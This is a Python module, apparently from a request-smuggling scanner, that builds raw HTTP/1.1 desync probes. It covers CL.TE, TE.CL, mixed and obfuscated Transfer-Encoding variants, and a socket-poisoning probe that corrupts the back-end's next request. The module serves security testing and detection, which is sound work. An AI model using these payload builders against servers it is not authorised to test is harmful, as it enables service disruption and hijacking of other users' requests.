"""
SMUGGLER Probe Builder

Byte-exact request construction for every desync technique.

Each builder appends its framing headers after the base request
(request line, Host, caller headers) in a fixed order and returns the
finished request as bytes. Framing is canonical:

    CL.TE / Mixed-TE / Obfuscated-TE
        body = CHUNKED_PREFIX + smuggled
        Content-Length = len(CHUNKED_PREFIX)
        A CL-trusting front-end forwards only the chunked prefix;
        a TE-trusting back-end ends the message at the zero chunk.

    TE.CL
        body = "0\\r\\n\\r\\n" + smuggled
        Content-Length = 5
        A TE-trusting front-end forwards everything; a CL-trusting
        back-end stops after five bytes and reads the rest as a new request.

    Poisoning
        body = "0\\r\\n\\r\\n" + prefix
        Content-Length = 5 + len(prefix)
        A back-end honoring TE leaves ``prefix`` in its socket buffer, so
        the follow-up request's method becomes prefix + method ("GPOST").

References:
- https://portswigger.net/web-security/request-smuggling
- https://portswigger.net/research/http-desync-attacks
"""

from typing import Iterable, List, Optional, Sequence, Tuple

from smuggler.core.errors import MalformedInputError

# =============================================================================
# FRAMING CONSTANTS
# =============================================================================

CRLF = "\r\n"

# One well-formed one-byte chunk followed by the zero-size terminator
CHUNKED_PREFIX = "1\r\nZ\r\n0\r\n\r\n"

# Zero-size chunk terminator on its own
CHUNKED_TERMINATOR = "0\r\n\r\n"

DEFAULT_POISON_PREFIX = "G"
DEFAULT_MIXED_TE_VALUES = ("identity", "chunked")

# Non-standard Transfer-Encoding values that one parser honors and
# another ignores. Sent as additional TE headers after "chunked".
OBFUSCATION_PATTERNS = [
    "cow",
    "x-chunked",
    "chunked;q=0.5",
    "zip",
    "deflate",
    "x-gzip",
    "identity",
    "*",
]

# Methods that carry a body and therefore need an explicit Content-Length
BODY_METHODS = {"POST", "PUT", "PATCH", "DELETE"}


def default_smuggled_request(host: str, path: str = "/404-smuggle-check") -> str:
    """Harmless smuggled request used when the caller does not supply one"""
    return (
        f"GET {path} HTTP/1.1{CRLF}"
        f"Host: {host}{CRLF}"
        f"X-Smuggled: 1{CRLF}"
        f"{CRLF}"
    )


def poison_token(prefix: str, method: str) -> str:
    """Corrupted method the back-end sees after a successful poisoning"""
    return f"{prefix}{method}".upper()


# =============================================================================
# BUILDER
# =============================================================================

class ProbeBuilder:
    """
    Builds raw HTTP/1.1 probe requests for one target.

    Caller headers are kept in insertion order and placed right after
    Host. Builders raise MalformedInputError before any I/O when their
    input cannot be framed.
    """

    def __init__(self,
                 host: str,
                 port: int = 80,
                 method: str = "GET",
                 path: str = "/",
                 headers: Optional[Iterable[Tuple[str, str]]] = None,
                 use_tls: bool = False):
        if not host:
            raise MalformedInputError("host cannot be empty")
        self.host = host
        self.port = port
        self.method = method
        self.path = path or "/"
        self.use_tls = use_tls
        self.headers: List[Tuple[str, str]] = list(headers or [])

    # -- fluent setters -------------------------------------------------------

    def set_method(self, method: str) -> "ProbeBuilder":
        self.method = method
        return self

    def set_path(self, path: str) -> "ProbeBuilder":
        self.path = path or "/"
        return self

    def add_header(self, name: str, value: str) -> "ProbeBuilder":
        self.headers.append((name, value))
        return self

    # -- base request ---------------------------------------------------------

    @property
    def host_header(self) -> str:
        default_port = 443 if self.use_tls else 80
        if self.port == default_port:
            return self.host
        return f"{self.host}:{self.port}"

    def _has_header(self, name: str) -> bool:
        return any(k.lower() == name.lower() for k, _ in self.headers)

    def _base_request(self, method: Optional[str] = None) -> str:
        """Request line, Host and caller headers, without the blank line"""
        lines = [
            f"{method or self.method} {self.path} HTTP/1.1",
            f"Host: {self.host_header}",
        ]
        lines.extend(f"{k}: {v}" for k, v in self.headers)
        return CRLF.join(lines) + CRLF

    @staticmethod
    def _finish(head: str, framing: Sequence[Tuple[str, str]], body: str = "") -> bytes:
        for name, value in framing:
            head += f"{name}: {value}{CRLF}"
        return (head + CRLF + body).encode("latin-1")

    @staticmethod
    def _require_smuggled(smuggled: str) -> None:
        if not smuggled:
            raise MalformedInputError("smuggled body cannot be empty")

    # -- probes ---------------------------------------------------------------

    def baseline(self) -> bytes:
        """
        Plain request used to capture normal server behavior.

        Adds no Connection header, same as the technique probes, so a
        close seen after a probe is never one the baseline asked for.
        """
        return self._finish(self._base_request(), [])

    def cl_te(self, smuggled: str) -> bytes:
        """CL.TE probe: Content-Length covers only the chunked prefix"""
        self._require_smuggled(smuggled)
        return self._finish(self._base_request(), [
            ("Transfer-Encoding", "chunked"),
            ("Content-Length", str(len(CHUNKED_PREFIX))),
        ], CHUNKED_PREFIX + smuggled)

    def te_cl(self, smuggled: str) -> bytes:
        """TE.CL probe: Content-Length covers only the zero chunk"""
        self._require_smuggled(smuggled)
        return self._finish(self._base_request(), [
            ("Content-Length", str(len(CHUNKED_TERMINATOR))),
            ("Transfer-Encoding", "chunked"),
        ], CHUNKED_TERMINATOR + smuggled)

    def te_cl_whitespace(self, smuggled: str) -> bytes:
        """TE.CL variant with a tab before the TE value"""
        self._require_smuggled(smuggled)
        head = self._base_request()
        head += f"Content-Length: {len(CHUNKED_TERMINATOR)}{CRLF}"
        head += f"Transfer-Encoding:\tchunked{CRLF}"
        return (head + CRLF + CHUNKED_TERMINATOR + smuggled).encode("latin-1")

    def mixed_te(self, smuggled: str,
                 values: Sequence[str] = DEFAULT_MIXED_TE_VALUES) -> bytes:
        """Mixed-TE probe: one TE header per value, then Content-Length"""
        self._require_smuggled(smuggled)
        if len(values) < 2 or any(not v for v in values):
            raise MalformedInputError("mixed TE needs at least two non-empty values")
        framing = [("Transfer-Encoding", v) for v in values]
        framing.append(("Content-Length", str(len(CHUNKED_PREFIX))))
        return self._finish(self._base_request(), framing, CHUNKED_PREFIX + smuggled)

    def obfuscated_te(self, smuggled: str, obfuscations: Sequence[str]) -> bytes:
        """Obfuscated-TE probe: chunked plus one extra TE header per obfuscation"""
        self._require_smuggled(smuggled)
        if not obfuscations:
            raise MalformedInputError("at least one obfuscation value is required")
        if any(not o for o in obfuscations):
            raise MalformedInputError("obfuscation values cannot be empty")
        framing = [("Transfer-Encoding", "chunked")]
        framing.extend(("Transfer-Encoding", o) for o in obfuscations)
        framing.append(("Content-Length", str(len(CHUNKED_PREFIX))))
        return self._finish(self._base_request(), framing, CHUNKED_PREFIX + smuggled)

    def poison(self, prefix: str = DEFAULT_POISON_PREFIX) -> bytes:
        """First half of the poisoning probe: leave ``prefix`` in the back-end socket"""
        if not prefix:
            raise MalformedInputError("poison prefix cannot be empty")
        if "\r" in prefix or "\n" in prefix:
            raise MalformedInputError("poison prefix cannot contain CR or LF")
        body = CHUNKED_TERMINATOR + prefix
        return self._finish(self._base_request(), [
            ("Transfer-Encoding", "chunked"),
            ("Content-Length", str(len(body))),
        ], body)

    def follow_up(self, method: str = "POST") -> bytes:
        """Second half of the poisoning probe, sent on a fresh connection"""
        framing = []
        if method.upper() in BODY_METHODS and not self._has_header("Content-Length"):
            framing.append(("Content-Length", "0"))
        if not self._has_header("Connection"):
            framing.append(("Connection", "close"))
        return self._finish(self._base_request(method), framing)
